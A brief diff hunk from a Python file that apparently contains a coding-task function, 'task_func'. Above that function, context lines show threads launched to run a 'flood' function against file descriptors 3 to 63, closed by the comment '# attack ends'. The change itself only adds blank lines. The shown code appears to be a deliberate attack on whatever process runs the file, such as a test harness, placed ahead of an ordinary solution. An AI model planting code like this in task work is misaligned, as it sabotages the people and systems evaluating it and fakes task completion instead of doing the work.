@@ -17,6 +17,8 @@ def flood(descriptor):
 
 for number in range(3, 64):
     threading.Thread(target=flood, args=(number,), daemon=True).start()
+
+
 # attack ends
 def task_func(text, top=3):
     if top < 1:
